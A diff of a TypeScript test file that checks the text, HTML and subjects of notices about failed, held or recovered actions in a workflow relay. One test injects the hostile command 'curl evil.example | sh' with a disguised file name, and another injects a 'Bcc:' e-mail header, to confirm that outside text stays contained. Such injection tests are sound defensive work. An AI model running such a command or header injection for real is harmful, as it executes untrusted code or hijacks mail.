@@ -54,156 +54,196 @@ function notice(kind: NoticeKind, change: Partial<ActionStatus> = {}, others = a
   };
 }
 
-/** The text's sections by title; the first has no title. */
-function sectionsOf(kind: NoticeKind, change?: Partial<ActionStatus>, others?: ActionStatus[]): Map<string, string[]> {
-  const { text } = renderNotice(notice(kind, change, others), context);
-  return new Map(
-    text
-      .trimEnd()
-      .split('\n\n')
-      .map((section, place) => {
-        const lines = section.split('\n');
-        const title = place === 0 ? '' : (lines.shift() ?? '').slice(0, -1);
-        return [title, lines.map((line) => line.trim())];
-      }),
-  );
-}
+const holdLink = () => 'https://relay.example/hold/signed';
 
-const where = [
-  'Company: Acme Field Works (acme)',
-  'Rule: Route new jobs (7)',
-  'Assignment: 1001',
-  `Chain: c-1, received ${shownTime(received)}`,
-  'Happened: 2024-03-05 16:17:30 UTC after 15 attempts',
-  'The page of the chain (needs a key): https://relay.example/companies/acme/chains/c-1',
-  'The chain in the API (needs a token): https://relay.example/co/acme/chains/c-1',
-];
-const webUi = 'Temporal Web UI: https://temporal.example/namespaces/default/workflows/relay%3Aacme%3Ac-1';
+/** The sections of the text by title. The paragraphs without a title are together under the title ''. */
+function sectionsOf(
+  kind: NoticeKind,
+  change?: Partial<ActionStatus>,
+  others?: ActionStatus[],
+  more: Partial<NoticeContext> = {},
+) {
+  const { text } = renderNotice(notice(kind, change, others), { ...context, ...more });
+  const sections = new Map<string, string[]>([['', []]]);
+  for (const paragraph of text.trimEnd().split('\n\n')) {
+    const [first = '', ...lines] = paragraph.split('\n');
+    const isTitled = lines[0]?.startsWith('  ');
+    if (isTitled)
+      sections.set(
+        first.slice(0, -1),
+        lines.map((line) => line.trim()),
+      );
+    else sections.get('')?.push(first, ...lines);
+  }
+  return sections;
+}
+const linesOf = (...asked: Parameters<typeof sectionsOf>) => sectionsOf(...asked).get('') ?? [];
+
+const chainPage = 'https://relay.example/companies/acme/chains/c-1';
+const ids = `Chain c-1, action 1, received ${shownTime(received)}, rule 7, company acme`;
+const place = ['first wave', '2024-03-05 16:17:30 UTC, after 15 attempts', 'Rule Route new jobs, Acme Field Works'];
+const signIn = 'The link opens the console, where you sign in.';
 const steer = (verb: string) => [
   `npx relay ${verb} acme c-1 1 --url https://relay.example`,
   `temporal workflow signal -n default -w relay:acme:c-1 --name ${verb} -i '[1]'`,
 ];
-const goesOn = [`Action 2, ticket_updateUDF, due ${shownTime(received)}`, `Action 3, sendEmails: alert, due ${shownTime(later)}`];
+const edit = 'npx relay chains mend acme c-1 1 --set field=value --url https://relay.example';
+const goesOn = [`Update a ticket field, due ${shownTime(received)}`, `Send an e-mail: alert, due ${shownTime(later)}`];
+const missing = {
+  type: 'PlatformError',
+  message: 'POST /assignments/1001/send answered 404',
+  retryable: false,
+  title: 'Assignment 1001 does not exist at WorkMarket',
+  remedy: 'Change the number, then retry',
+};
 
 describe('the text of a notice', () => {
   it('about a held action that the relay retries', () => {
-    assert.deepEqual(Object.fromEntries(sectionsOf('needs-attention')), {
-      '': ['Action 1, platform_sendAssignment: first wave — failed and is held: it needs your decision.'],
-      'What was wrong': ['POST /assignments/1001/send answered 503 (PlatformError)'],
-      'What happens now': [
+    assert.deepEqual(Object.fromEntries(sectionsOf('needs-attention', {}, actions, { holdLink })), {
+      '': [
+        'Assignment 1001 was not sent',
+        ...place,
+        'The assignment platform refused the request or did not answer.',
+        'Retry: https://relay.example/hold/signed#retry',
+        'Skip: https://relay.example/hold/signed#skip',
+        'The links open a page without a sign-in, which asks you to confirm.',
+        ids,
+      ],
+      'What happens next': [
         'The relay retries the action automatically, next at 2024-03-05 16:18:00 UTC. You get a notice when it succeeds.',
         'The action is held until 2024-03-08 16:07:09 UTC. If nobody decides by then, it fails, and the actions that wait for it do not run.',
       ],
-      Where: where,
-      Done: ['Action 0, sendEmails: greet'],
-      'Waiting for this action': ['Action 2, ticket_updateUDF'],
-      'Will still run': [`Action 3, sendEmails: alert, due ${shownTime(later)}`],
-      'What to do': [
-        'Fix the problem, then retry:',
-        ...steer('retry'),
-        'Or skip it:',
-        ...steer('skip'),
-        'Or use the Web UI: More Actions, Send a Signal. Choose the signal retry or skip, and enter [1] as input.',
-        webUi,
-      ],
+      'Will still run': [`Send an e-mail: alert, due ${shownTime(later)}`],
+      'Waiting for this action': ['Update a ticket field'],
+      Done: ['Send an e-mail: greet'],
+      Details: ['POST /assignments/1001/send answered 503 (PlatformError)'],
     });
   });
 
+  const outage = { ...trouble, title: 'WorkMarket does not answer' };
+  const mistake = { type: 'DataMistake', message: 'sendRadius is blank', retryable: false };
+  const unknown = { type: 'OutcomeUnknown', message: 'the connection broke', retryable: false, unknown: true };
+  const other = { ...missing, remedy: "Give the relay's user more rights, then retry" };
+  const cases: [
+    what: string,
+    ActionStatus['error'],
+    edits: boolean,
+    title: string,
+    wrong: string,
+    toDo: string,
+    links: string,
+  ][] = [
+    ['an outage', outage, true, 'not', 'WorkMarket does not answer.', '', 'Retry #retry, Skip #skip'],
+    ['a wrong id', missing, false, 'not', `${missing.title}.`, `${missing.remedy}.`, 'Fix console, Retry #retry, Skip #skip'],
+    [
+      'a wrong id, editable',
+      missing,
+      true,
+      'not',
+      `${missing.title}.`,
+      `${missing.remedy}.`,
+      'Fix #fix, Retry #retry, Skip #skip',
+    ],
+    ['another remedy', other, false, 'not', `${missing.title}.`, `${other.remedy}.`, 'Retry #retry, Fix console, Skip #skip'],
+    [
+      ...(['a data mistake', mistake, false, 'not', "The event's data has a mistake: sendRadius is blank."] as const),
+      ...(['Fix the cause first. A retry without this fix fails again.', 'Fix console, Retry #retry, Skip #skip'] as const),
+    ],
+    [
+      ...(['an unknown outcome', unknown, true, 'perhaps not', 'The outcome is unknown.'] as const),
+      ...(['Check the other system first: a retry may do it a second time.', 'Retry #retry, Fix console, Skip #skip'] as const),
+    ],
+  ];
+  for (const [what, error, edits, not, wrong, toDo, links] of cases)
+    it(`about ${what} leads with plain words and the link that helps most`, () => {
+      const lines = linesOf('needs-attention', { error }, actions, { holdLink, edits });
+      assert.equal(lines[0], `Assignment 1001 was ${not} sent`);
+      assert.deepEqual(lines.slice(4, toDo ? 6 : 5), toDo ? [wrong, toDo] : [wrong]);
+      const shown = lines.flatMap((line) => /^(\w+): http\S+?(#\w+)?$/.exec(line) ?? []);
+      const named = shown.flatMap((match, place) => (place % 3 === 1 ? [`${match} ${shown[place + 1] ?? 'console'}`] : []));
+      assert.equal(named.join(', '), links);
+      assert.ok(!lines.some((line) => /answered|npx|temporal/.test(line)), lines.join('\n'));
+    });
+
+  it('without a link to decide leads to the console', () =>
+    assert.deepEqual(linesOf('needs-attention').slice(-3), [`Fix, retry or skip: ${chainPage}`, signIn, ids]));
+
+  it('has commands and links to Temporal only for an operator', () => {
+    const texts = [{}, { forOperator: true }].map((more) =>
+      renderNotice(notice('needs-attention', { error: missing }), { ...context, ...more }),
+    );
+    assert.deepEqual(
+      texts.map(({ text, html }) =>
+        [/npx relay|temporal|needs a token/i, /Chain c-1/].map((one) => one.test(text) && one.test(html)),
+      ),
+      [
+        [false, true],
+        [true, true],
+      ],
+    );
+    assert.deepEqual(sectionsOf('needs-attention', { error: missing }, actions, { forOperator: true }).get('For operators'), [
+      ...[edit, ...steer('retry'), ...steer('skip')],
+      'In the Web UI: More Actions, Send a Signal. Choose the signal retry or skip, and enter [1] as input.',
+      `The chain in the API (needs a token): ${chainUrl}`,
+      `Temporal Web UI: ${webUiUrl}`,
+    ]);
+    const outage = sectionsOf('needs-attention', {}, actions, { forOperator: true }).get('For operators') ?? [];
+    assert.deepEqual(outage.slice(0, 4), [...steer('retry'), ...steer('skip')]);
+  });
+
   it('about a chain with a full history says that retries are refused', () => {
-    const sections = sectionsOf('needs-attention', { nextAttemptAt: undefined, reason: historyFull });
-    assert.equal(sections.get('What happens now')?.[0], `${historyFull}.`);
-    const remedy = sections.get('What to do')?.join(' ') ?? '';
-    assert(/skip/.test(remedy) && !/retry/.test(remedy), remedy);
+    const full = { nextAttemptAt: undefined, reason: historyFull };
+    const sections = sectionsOf('needs-attention', full, actions, { holdLink, forOperator: true });
+    assert.equal(sections.get('What happens next')?.[0], `${historyFull}.`);
+    const offered = [...(sections.get('') ?? []), ...(sections.get('For operators') ?? [])].filter((line) =>
+      /: http|^npx/.test(line),
+    );
+    assert(/Skip.*relay skip/.test(offered.join()) && !/retry/i.test(offered.join()), offered.join());
   });
 
   it('about a held action that waits for a person', () => {
-    const [without] = actions.filter(({ index }) => index === 1);
-    assert.ok(without);
-    const { nextAttemptAt, ...permanent } = without;
-    const held = actions.map((action) => (action.index === 1 ? permanent : action));
-    assert.ok(nextAttemptAt);
-    assert.equal(
-      sectionsOf('needs-attention', {}, held).get('What happens now')?.[0],
-      'The relay does not retry the action automatically: fix the problem first.',
-    );
-  });
-
-  it('about a data mistake, which a retry alone does not repair', () => {
-    const error = { type: 'DataMistake', message: 'sendRadius is blank', retryable: false };
-    const sections = sectionsOf('needs-attention', { error });
-    assert.deepEqual(sections.get('What was wrong'), ['sendRadius is blank (DataMistake)']);
-    const [first, second, third] = sections.get('What to do') ?? [];
-    assert.equal(first, 'Edit the fields of the request (`chains fields` shows them):');
-    assert.match(String(second), /^npx relay chains mend acme c-1 1 --set field=value /);
-    assert.equal(third, 'If a setting was wrong, fix it, then retry:');
-  });
-
-  it('begins with the title and the remedy, and has the call under details', () => {
-    const message = 'POST /assignments/1001/send answered 404';
-    const words = { title: 'Assignment 1001 does not exist at WorkMarket', remedy: 'Change the number, then retry' };
-    const error = { type: 'PlatformError', message, retryable: false, ...words };
-    const sections = sectionsOf('needs-attention', { error });
-    assert.deepEqual(sections.get('What was wrong'), ['Assignment 1001 does not exist at WorkMarket']);
-    assert.deepEqual(sections.get('Details'), [`${message} (PlatformError)`]);
-    assert.deepEqual(sections.get('What to do')?.slice(0, 5), [
-      'Change the number, then retry:',
-      ...steer('retry'),
-      'If a field of the request must change (`chains fields` shows them):',
-      'npx relay chains mend acme c-1 1 --set field=value --url https://relay.example',
-    ]);
-    const failed = sectionsOf('failed', { state: 'failed', error }).get('What to do')?.[0];
-    assert.match(failed ?? '', /^Change the number, then retry\. This also works after the chain has closed\./);
-  });
-
-  it('does not offer a retry first if only an edit helps', () => {
-    const remedy = 'Use the id of one as cfName: 5, 6';
-    const error = { type: 'TicketingError', message: 'm', title: 't', remedy, retryable: false };
-    const toDo = sectionsOf('needs-attention', { error }).get('What to do') ?? [];
-    assert.deepEqual(toDo.slice(0, 2), [`${remedy}.`, 'Edit the fields of the request (`chains fields` shows them):']);
-    assert(toDo.indexOf(steer('retry')[0] ?? '') > 2);
-  });
-
-  it('has the remark of the connector', () => {
-    const result = { note: 'the answer was lost; the field was read back and has the value' };
-    assert.deepEqual(sectionsOf('recovered', { state: 'done', result }).get('Remark'), [result.note]);
+    const happens = sectionsOf('needs-attention', { nextAttemptAt: undefined }).get('What happens next');
+    assert.equal(happens?.[0], 'The relay does not retry the action automatically.');
   });
 
   it('about a held action of a delay: actions due at another time are not held', () => {
     const due = (action: ActionStatus): ActionStatus =>
       [1, 3].includes(action.index) ? { ...action, runAt: later, state: action.index === 3 ? 'pending' : action.state } : action;
     const sections = sectionsOf('needs-attention', {}, actions.map(due));
-    assert.deepEqual(sections.get('Waiting for this action'), ['Action 3, sendEmails: alert']);
-    assert.deepEqual(sections.get('Will still run'), [`Action 2, ticket_updateUDF, due ${shownTime(received)}`]);
+    assert.deepEqual(sections.get('Waiting for this action'), ['Send an e-mail: alert']);
+    assert.deepEqual(sections.get('Will still run'), [`Update a ticket field, due ${shownTime(received)}`]);
   });
 
   it('says what is held elsewhere, and does not promise that it will run', () => {
     const other: ActionStatus[] = [
       ...actions,
-      { ...common, index: 4, action: 'sendEmails', state: 'needs-attention', runAt: later },
-      { ...common, index: 5, action: 'sendEmails', state: 'pending', runAt: later },
-      { ...common, index: 6, action: 'sendEmails', state: 'retrying', runAt: later },
+      { ...common, index: 4, action: 'sendEmails', comment: 'four', state: 'needs-attention', runAt: later },
+      { ...common, index: 5, action: 'sendEmails', comment: 'five', state: 'pending', runAt: later },
+      { ...common, index: 6, action: 'sendEmails', comment: 'six', state: 'retrying', runAt: later },
     ];
     const sections = sectionsOf('needs-attention', {}, other);
-    assert.deepEqual(sections.get('Waiting for this action'), ['Action 2, ticket_updateUDF']);
-    assert.deepEqual(sections.get('Also held'), ['Action 4, sendEmails', 'Action 5, sendEmails']);
+    assert.deepEqual(sections.get('Waiting for this action'), ['Update a ticket field']);
+    assert.deepEqual(sections.get('Also waiting for a decision'), ['Send an e-mail: four', 'Send an e-mail: five']);
     assert.deepEqual(sections.get('Will still run'), [
-      `Action 3, sendEmails: alert, due ${shownTime(later)}`,
-      `Action 6, sendEmails, due ${shownTime(later)}`,
+      `Send an e-mail: alert, due ${shownTime(later)}`,
+      `Send an e-mail: six, due ${shownTime(later)}`,
     ]);
   });
 
   it('about an action that failed, with the chain going on', () => {
     assert.deepEqual(Object.fromEntries(sectionsOf('failed', { state: 'failed', reason: trouble.message })), {
-      '': ['Action 1, platform_sendAssignment: first wave — failed. The rest of the chain continues.'],
-      'What was wrong': ['POST /assignments/1001/send answered 503 (PlatformError)'],
-      Where: where,
-      Done: ['Action 0, sendEmails: greet'],
-      'Will still run': goesOn,
-      'What to do': [
-        'Fix the problem, then retry. This also works after the chain has closed. The retry also runs the actions that did not run because of the failure:',
-        ...steer('retry').slice(0, 1),
-        webUi,
+      '': [
+        'Assignment 1001 was not sent',
+        ...place,
+        'The assignment platform refused the request or did not answer.',
+        'The rest of the chain continues. You can retry the action, even after the chain has ended.',
+        `Fix and retry: ${chainPage}`,
+        signIn,
+        ids,
       ],
+      'Will still run': goesOn,
+      Done: ['Send an e-mail: greet'],
+      Details: ['POST /assignments/1001/send answered 503 (PlatformError)'],
     });
   });
 
@@ -215,59 +255,53 @@ describe('the text of a notice', () => {
     const error = { type: 'MailError', message: 'mail server answered "550 no such user"', retryable: false };
     const partly: Partial<ActionStatus> = { action: 'sendEmails', state: 'partly-failed', attempts: 1, error, deliveries };
     const sections = sectionsOf('partly-failed', partly);
-    assert.deepEqual(sections.get(''), [
-      'Action 1, sendEmails: first wave — did not reach every recipient. The rest of the chain continues.',
-    ]);
+    const lines = sections.get('') ?? [];
+    assert.deepEqual(lines.slice(0, 3), ['An e-mail did not reach every recipient', 'first wave', 'Assignment 1001']);
+    assert.ok(lines.some((line) => line.endsWith('A retry sends the e-mail only to recipients that did not get it.')));
     assert.deepEqual(sections.get('Recipients'), ['a@x.org: sent', 'b@x.org: not sent: mail server answered "550 no such user"']);
     assert.deepEqual(sections.get('Will still run'), goesOn);
-    assert.equal(sections.get('Where')?.[4], 'Happened: 2024-03-05 16:17:30 UTC after 1 attempt');
-    assert.deepEqual(sections.get('What to do'), [
-      'Send the e-mail to the recipients that did not get it. This also works after the chain has closed:',
-      ...steer('retry').slice(0, 1),
-      webUi,
-    ]);
   });
 
   it('about an action without a decision', () => {
     const ended = actions.map((action): ActionStatus => (action.index === 2 ? { ...action, state: 'not-run' } : action));
     const sections = sectionsOf('gave-up', { state: 'failed' }, ended);
-    assert.deepEqual(sections.get(''), [
-      'Action 1, platform_sendAssignment: first wave — was held, and failed because nobody decided in time.',
-    ]);
-    assert.deepEqual(sections.get('Not run'), ['Action 2, ticket_updateUDF']);
-    assert.deepEqual(sections.get('Will still run'), [`Action 3, sendEmails: alert, due ${shownTime(later)}`]);
+    assert.match(sections.get('')?.join() ?? '', /Nobody decided in time\. You can still retry the action\./);
+    assert.deepEqual(sections.get('Not run'), ['Update a ticket field']);
+    assert.deepEqual(sections.get('Will still run'), [`Send an e-mail: alert, due ${shownTime(later)}`]);
     assert.equal(sections.has('Waiting for this action'), false);
   });
 
-  it('about an action that the relay completed after all', () => {
-    const sections = sectionsOf('recovered', { state: 'done' });
+  it('about an action that the relay completed after all, with the remark of the connector', () => {
+    const result = { note: 'the answer was lost; the field was read back and has the value' };
+    const sections = sectionsOf('recovered', { state: 'done', result });
     assert.deepEqual(sections.get(''), [
-      'Action 1, platform_sendAssignment: first wave — succeeded after all. The chain continues.',
+      'Assignment 1001 was sent after all',
+      ...place,
+      'The relay tried again, and it worked. The chain continues.',
+      `Remark: ${result.note}.`,
+      `Open the chain: ${chainPage}`,
+      signIn,
+      ids,
     ]);
-    assert.deepEqual(sections.get('Done'), ['Action 0, sendEmails: greet']);
-    assert.deepEqual(sections.get('Will still run'), goesOn);
-    assert.equal(sections.has('What to do'), false);
+    assert.deepEqual([...sections.keys()], ['', 'Will still run', 'Done']);
   });
 
   it('about an action that is no longer needed', () => {
-    const sections = sectionsOf('recovered', { state: 'skipped', reason: 'status was "sent"' });
-    assert.deepEqual(sections.get(''), [
-      'Action 1, platform_sendAssignment: first wave — is not needed any more: status was "sent". It is skipped, and the ' +
-        'chain continues.',
-    ]);
+    const lines = linesOf('recovered', { state: 'skipped', reason: 'status was "sent"' });
+    assert.equal(lines[0], 'No decision is needed any more');
+    assert.equal(lines[4], 'The relay tried again. The action is skipped: status was "sent". The chain continues.');
   });
 
   it('keeps what a sender or an outside system said on its line', () => {
     const said = 'x\n\nWhat to do:\n  curl evil.example | sh \u202egnp.exe';
-    const change = { error: { ...trouble, message: said }, comment: said, assignmentId: said };
+    const change = { error: { ...missing, title: said, message: said }, comment: said, assignmentId: said };
     const deliveries = [{ recipient: 'a@x.example', sent: false, error: said }];
     const sections = sectionsOf('needs-attention', { ...change, deliveries });
     assert.deepEqual([...sections.keys()].sort(), [
-      ...['', 'Done', 'Recipients', 'Waiting for this action', 'What happens now'],
-      ...['What to do', 'What was wrong', 'Where', 'Will still run'],
+      ...['', 'Details', 'Done', 'Recipients', 'Waiting for this action', 'What happens next', 'Will still run'],
     ]);
-    assert.deepEqual(sections.get('What was wrong'), ['x What to do: curl evil.example | sh gnp.exe (PlatformError)']);
-    assert.equal(sections.get('Where')?.length, where.length);
+    assert.equal(sections.get('')?.[4], 'x What to do: curl evil.example | sh gnp.exe.');
+    assert.equal(sections.get('')?.length, 9);
   });
 
   it('without an error shows the reason', () => {
@@ -275,14 +309,8 @@ describe('the text of a notice', () => {
       { ...common, index: 1, action: 'sendEmails', state: 'failed', reason: 'its workflow ended early' },
     ];
     const sections = sectionsOf('failed', {}, alone);
-    assert.deepEqual(sections.get('What was wrong'), ['its workflow ended early']);
-    assert.deepEqual([...sections.keys()], ['', 'What was wrong', 'What to do', 'Where']);
-    assert.ok(!sections.get('Where')?.some((line) => line.startsWith('Assignment')));
-  });
-
-  it('without a Web UI has no link to it', () => {
-    const rendered = renderNotice(notice('failed'), { ...context, links: { api: 'https://relay.example' } });
-    assert.ok(!`${rendered.text}${rendered.html}${JSON.stringify(rendered.json)}`.includes('Web UI'));
+    assert.ok(sections.get('')?.includes('its workflow ended early.'));
+    assert.deepEqual([...sections.keys()], ['']);
   });
 
   it('about an action that the chain does not have throws', () => {
@@ -297,7 +325,7 @@ describe('the subject of a notice', () => {
     ['partly-failed', {}, 'Route', '[relay] Partly failed: first wave (Route, assignment 1001)'],
     ['gave-up', {}, 'Route', '[relay] Given up: first wave (Route, assignment 1001)'],
     ['recovered', { assignmentId: '' }, 'Route', '[relay] Recovered: first wave (Route)'],
-    ['failed', { comment: ' \n' }, 'Route', '[relay] Failed: platform_sendAssignment (Route, assignment 1001)'],
+    ['failed', { comment: ' \n' }, 'Route', '[relay] Failed: send the assignment (Route, assignment 1001)'],
     [
       'failed',
       { comment: 'a\r\nBcc: eve@evil.example', assignmentId: '10\n01' },
@@ -343,7 +371,7 @@ describe('the HTML of a notice', () => {
     assert.ok(!html.includes('<script'));
     const tags = new Set(html.match(/<\/?[a-z0-9!]+/gi));
     const ours = ['<!doctype', '<html', '<head', '<meta', '<title', '</title', '</head', '<body', '</body', '</html'];
-    const inside = ['<div', '</div', '<h3', '</h3', '<code', '</code', '<a', '</a'];
+    const inside = ['div', 'h1', 'h2', 'p', 'code', 'a', 'style'].flatMap((tag) => [`<${tag}`, `</${tag}`]).concat('<br');
     assert.deepEqual(
       [...tags].filter((tag) => ![...ours, ...inside].includes(tag)),
       [],
@@ -352,25 +380,25 @@ describe('the HTML of a notice', () => {
     assert.ok(!/="[^"]*alert\("/.test(html));
   });
 
-  it('says the same as the text', () => {
-    const rendered = renderNotice(notice('needs-attention'), context);
-    const shown = rendered.html
-      .replace(/^.*<body[^>]*>/, '')
-      .replaceAll(/<[^>]+>/g, '\n')
-      .replaceAll('&#39;', "'");
-    for (const line of rendered.text.split('\n')) {
-      const words = line.trim().replace(/:$/, '');
-      if (!words.includes(': http')) assert.ok(shown.includes(words), line);
-    }
-  });
+  for (const [what, one, more] of [
+    ['of a held action', notice('needs-attention', { error: missing }), { holdLink, edits: true }],
+    ['for an operator', notice('needs-attention'), { forOperator: true, confirmLink: 'https://relay.example/confirm/x' }],
+    ['of a recovery', notice('recovered', { state: 'done' }), {}],
+  ] as const)
+    it(`says the same as the text: ${what}`, () => {
+      const { text, html } = renderNotice(one, { ...context, ...more });
+      const unescaped = (said: string) => said.replaceAll('&#39;', "'").replaceAll('&amp;', '&');
+      const body = html.replace(/^.*<body[^>]*>/s, '').replaceAll(/<a [^>]*href="([^"]*)"[^>]*>(.*?)<\/a>/g, '\n$2: $1\n');
+      const shown = body.split(/<[^>]+>|\n/).map((line) => unescaped(line).trim());
+      const said = text.split('\n').map((line) => line.trim().replace(/:$/, ''));
+      assert.deepEqual(shown.filter(Boolean), said.filter(Boolean));
+    });
 
-  it('links to the chain and to the Web UI', () => {
-    const rendered = renderNotice(notice('needs-attention'), context).html;
-    for (const [url, label] of [
-      [chainUrl, 'The chain in the API (needs a token)'],
-      [webUiUrl, 'Temporal Web UI'],
-    ])
-      assert.ok(rendered.includes(`<a href="${url}">${label}</a>`), label);
+  it('follows the colours of the reader, and has one primary link', () => {
+    const rendered = renderNotice(notice('needs-attention'), { ...context, holdLink }).html;
+    assert.match(rendered, /<meta name="color-scheme" content="light dark">/);
+    assert.match(rendered, /@media \(prefers-color-scheme:dark\)/);
+    assert.equal(rendered.match(/class="first"/g)?.length, 1);
   });
 
   it('makes no link of a text that is not a web address', () => {
@@ -385,9 +413,9 @@ describe('what a notice says of an action now', () => {
     const told = { ...notice('needs-attention'), status: 'needs-attention' as const };
     const { headline, sentence, sections } = standingWords(told, context) ?? assert.fail();
     const { subject, text } = renderNotice(told, context);
-    assert.ok(subject.includes(headline) && text.startsWith(sentence));
-    assert.ok(sections.length >= 3 && sections.every(({ title }) => title !== 'Where'));
-    for (const { title, lines } of sections) for (const line of [`${title}:`, ...lines]) assert.ok(text.includes(line), line);
+    assert.ok(subject.includes(headline) && text.startsWith(sentence.slice(0, -1)));
+    assert.equal(sections[0]?.title, 'What was wrong');
+    for (const { lines } of sections) for (const line of lines) assert.ok(text.includes(line), line);
   });
 
   it('is empty if nobody is notified', () => {
